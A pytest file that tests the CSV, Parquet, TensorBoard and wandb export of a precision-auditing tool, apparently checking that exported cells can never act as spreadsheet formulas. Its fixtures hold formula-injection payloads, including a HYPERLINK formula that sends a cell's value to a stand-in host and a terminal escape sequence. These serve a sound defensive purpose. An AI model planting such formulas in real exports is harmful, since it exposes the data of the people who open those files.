"""Errors for other programs: what is written is what was found, as numbers, whole, and harmless in a spreadsheet."""

import csv as format_of
import io
import os
import re
import struct
import subprocess
import sys
from pathlib import Path

import jax.numpy as jnp
import numpy as np
import pandas
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import precaudit
from precaudit.cli import run
from precaudit.errors import UserError
from precaudit.judging.gate import gate_selected
from precaudit.recording.runs.programs import is_program_run
from precaudit.reports import exports
from precaudit.reports.escaping import csv_cell as cell
from precaudit.schema.frames import errors_frame
from precaudit.schema.prompts import Prompt
from precaudit.schema.records.errors import LocalError

FORMULA = '=HYPERLINK("http://h/"&A1)\x1b[2J'


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A compared run whose prompt id would be a formula."""
    folder = tmp_path_factory.mktemp("export")
    made = precaudit.trace(
        "tiny", folder / "run", [Prompt(id=FORMULA, prompt="x = 1")], points="q,logits", layers="0:2", phases="prefill"
    )
    precaudit.compare(made, accum=(), cache=folder / "refs")
    return folder / "run"


@pytest.fixture(scope="module")
def own(tmp_path_factory):
    """A compared run of a program with a case that would be one, too."""
    folder = tmp_path_factory.mktemp("own") / "run"
    x = jnp.ones((4, 8), jnp.bfloat16)
    program = precaudit.Program(call=lambda p, x: jnp.tanh(x @ p), params=x.T @ x, cases={"@SUM(1)": (x,)})
    precaudit.compare(precaudit.trace(program, folder), program)
    return folder


def export(*arguments):
    return run(["export", *map(str, arguments)])


def errors_of(folder):
    if is_program_run(folder):
        from precaudit.recording.runs.compared_programs import program_errors as read
        from precaudit.recording.runs.programs import open_program_run

        return read(open_program_run(folder))
    from precaudit.recording.runs.written import recall

    return recall(folder).errors


# Tables


@pytest.mark.turn  # 3 s
@given(st.text(max_size=30))
@example("=1+1")
@example("\t=1")
@example("\r@x")
@example("  +1")
@example("-1")
@example("＝1")
@example("A\n")
def test_no_cell_begins_a_formula(text):
    shown = cell(text)
    assert shown.isprintable()
    assert not re.match(r"\s*[=+\-@＝＋－＠]", shown)
    if re.fullmatch(r"[A-Za-z_]+", text):  # $ is before a last line feed, too
        assert shown == text


@pytest.mark.parametrize("which", ["folder", "own"])
def test_csv_holds_the_records(which, request, tmp_path, capfd):
    source = request.getfixturevalue(which)
    assert export(source, "--csv", tmp_path / "new" / "errors.csv") == 0
    assert "records of" in capfd.readouterr().out
    data = (tmp_path / "new" / "errors.csv").read_bytes()
    rows = list(format_of.DictReader(io.StringIO(data.decode())))
    errors = errors_of(source)
    assert len(rows) == len(errors)
    assert {row["prompt"][0] for row in rows if row["prompt"]} == {"'"}
    assert not re.search(rb"[\x00-\x09\x0b-\x1f]", data)
    for row, e in zip(rows, errors, strict=True):
        assert row["layer"] == ("" if e.layer is None else str(e.layer))
        assert row["rel_l2"] == ("" if e.rel_l2 is None else repr(e.rel_l2))
        assert int(row["n"]) == e.n
    again = pandas.read_csv(io.BytesIO(data))
    assert again["rel_l2"].dtype == np.float64
    assert os.listdir(tmp_path / "new") == ["errors.csv"]


@pytest.mark.parametrize("which", ["folder", "own"])
def test_nothing_is_judged_for_a_table(which, request, tmp_path, monkeypatch):
    """A log holds the verdict, and a table the records alone: judging a million takes longer than writing them."""
    judged = []
    judge = lambda run, by: judged.append(run) or gate_selected(run, by)  # noqa: E731
    monkeypatch.setattr("precaudit.judging.gate.gate_selected", judge)
    folder = request.getfixturevalue(which)
    assert export(folder, "--csv", tmp_path / "e.csv", "--parquet", tmp_path / "e.parquet") == 0
    assert not judged
    assert export(folder, "--tensorboard", tmp_path / "log") == 0
    assert judged == [folder]


@pytest.mark.parametrize("which", ["folder", "own"])
def test_parquet_keeps_formats(which, request, tmp_path):
    source = request.getfixturevalue(which)
    assert export(source, "--parquet", tmp_path / "errors.parquet") == 0
    pandas.testing.assert_frame_equal(pandas.read_parquet(tmp_path / "errors.parquet"), errors_frame(errors_of(source)))


@pytest.mark.parametrize("which", ["folder", "own"])
def test_tables_in_parts_are_the_table(which, request, tmp_path, monkeypatch):
    source = request.getfixturevalue(which)
    whole = errors_frame(errors_of(source))
    monkeypatch.setattr(exports, "ROWS", 3)
    assert export(source, "--csv", tmp_path / "errors.csv", "--parquet", tmp_path / "errors.parquet") == 0
    assert (tmp_path / "errors.csv").read_bytes() == exports.frame_csv(whole)
    pandas.testing.assert_frame_equal(pandas.read_parquet(tmp_path / "errors.parquet"), whole)


def test_negative_and_missing_numbers_stay_numbers():
    e = LocalError(
        prompt="-1", phase="prefill", step=0, layer=3, point="q", candidate="c", reference="r",
        gain=-0.5, rel_l2="nan", max_diff="inf",
    )  # fmt: skip
    row = next(format_of.DictReader(io.StringIO(exports.frame_csv(errors_frame([e])).decode())))
    assert (row["prompt"], row["gain"], row["rel_l2"], row["max_diff"], row["mae"]) == ("'-1", "-0.5", "", "inf", "")


# Logs


def events(path):
    """Yield the values of a file of TensorBoard events: frames of length, checksum, data, checksum."""
    from tensorboardX.proto.event_pb2 import Event

    data, at = path.read_bytes(), 0
    while at < len(data):
        (length,) = struct.unpack("<Q", data[at : at + 8])
        event = Event.FromString(data[at + 12 : at + 12 + length])
        yield from ((event.step, v) for v in event.summary.value)
        at += 16 + length


@pytest.mark.parametrize("which", ["folder", "own"])
def test_tensorboard_holds_every_layer_and_the_verdict(which, request, tmp_path):
    source = request.getfixturevalue(which)
    assert export(source, "--tensorboard", tmp_path / "log") == 0
    (path,) = (tmp_path / "log").iterdir()
    found = {(v.tag, step): v.simple_value for step, v in events(path) if v.tag.partition("/")[0] != "verdict"}
    local = [e for e in errors_of(source) if e.kind == "local" and e.rel_l2 is not None]
    names = {(e.point, e.layer or 0) for e in local}
    for point, layer in names:
        largest = max(e.rel_l2 for e in local if (e.point, e.layer or 0) == (point, layer))
        tag = "local_rel_l2/" + point.replace("~", "--").replace("#", "-")
        assert found[tag, layer] == pytest.approx(largest, rel=1e-6)
    assert {tag.partition("/")[0] for tag, _ in found} == {"local_rel_l2", "forward_rel_l2", "excess"}
    (verdict,) = (v.tensor.string_val[0].decode() for _, v in events(path) if v.tag.startswith("verdict"))
    assert "verdicts: " in verdict
    assert " pass" in verdict
    assert "\x1b" not in verdict


def test_nan_is_the_largest():
    def e(x, **more):
        return LocalError(
            prompt="p", phase="prefill", step=0, layer=None, point="q", candidate="c", reference="r",
            rel_l2=x, **more,
        )  # fmt: skip

    (found,) = exports.scalars([e(1.0), e("nan"), e(2.0), e(None, missing="lost")])
    assert found[:2] == ("local_rel_l2/q", 0)
    assert np.isnan(found.value)


@pytest.mark.slow  # 10 s: wandb starts a process of its own
def test_wandb_offline_writes_its_folder_alone(folder, tmp_path):
    pytest.importorskip("wandb")
    home = tmp_path / "home"
    home.mkdir()
    environment = {k: v for k, v in os.environ.items() if not k.startswith("WANDB")} | {"HOME": str(home)}
    environment |= {"WANDB_BASE_URL": "http://127.0.0.1:9", "XDG_CACHE_HOME": str(home), "XDG_CONFIG_HOME": str(home)}
    done = subprocess.run(
        [sys.executable, "-m", "precaudit", "export", folder, "--wandb-offline", tmp_path / "log"],
        env=environment, capture_output=True, text=True, check=False, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    (path,) = (tmp_path / "log").iterdir()
    data = path.read_bytes()
    assert path.suffix == ".wandb"
    assert all(word in data for word in (b"local_rel_l2/q", b"excess/q", b"verdicts: "))
    assert not [p for p in home.rglob("*") if "wandb" in p.name.lower()]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "log"]


# Mistakes


def test_what_cannot_be_written_is_told_and_leaves_nothing(folder, tmp_path, capfd, monkeypatch):
    assert export(folder) == 2
    assert "nothing to write: give --csv FILE" in capfd.readouterr().err
    (tmp_path / "log").mkdir()
    assert export(folder, "--csv", tmp_path / "e.csv", "--tensorboard", tmp_path / "log") == 2
    assert f"{tmp_path / 'log'} exists: choose another folder" in capfd.readouterr().err
    monkeypatch.setitem(sys.modules, "tensorboardX", None)
    assert export(folder, "--csv", tmp_path / "e.csv", "--tensorboard", tmp_path / "other") == 2
    assert "pip install 'precaudit[tensorboard]'" in capfd.readouterr().err
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    assert export(folder, "--parquet", tmp_path / "e.parquet") == 2
    assert "pip install 'precaudit[frames]'" in capfd.readouterr().err
    assert os.listdir(tmp_path) == ["log"]


def test_a_log_that_breaks_leaves_nothing(folder, tmp_path, monkeypatch):
    def broken(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("tensorboardX.SummaryWriter.add_text", broken)
    assert export(folder, "--tensorboard", tmp_path / "log") == 2
    assert os.listdir(tmp_path) == []


def test_compare_comes_first(tmp_path, capfd):
    precaudit.trace("tiny", tmp_path / "run", ["x = 1"], points="q", layers="0", phases="prefill")
    assert export(tmp_path / "run", "--csv", tmp_path / "e.csv") == 2
    assert f"not compared yet, or changed since; run: precaudit compare {tmp_path / 'run'}" in capfd.readouterr().err
    x = jnp.ones((4, 8), jnp.bfloat16)
    precaudit.trace(precaudit.Program(call=lambda p, x: x @ p, params=x.T, cases={"a": (x,)}), tmp_path / "own")
    assert export(tmp_path / "own", "--csv", tmp_path / "e.csv") == 2
    assert f"was not compared yet: precaudit compare {tmp_path / 'own'}" in capfd.readouterr().err
    assert not Path(tmp_path / "e.csv").exists()
    with pytest.raises(UserError, match="exists"):
        exports.require_free(tmp_path)
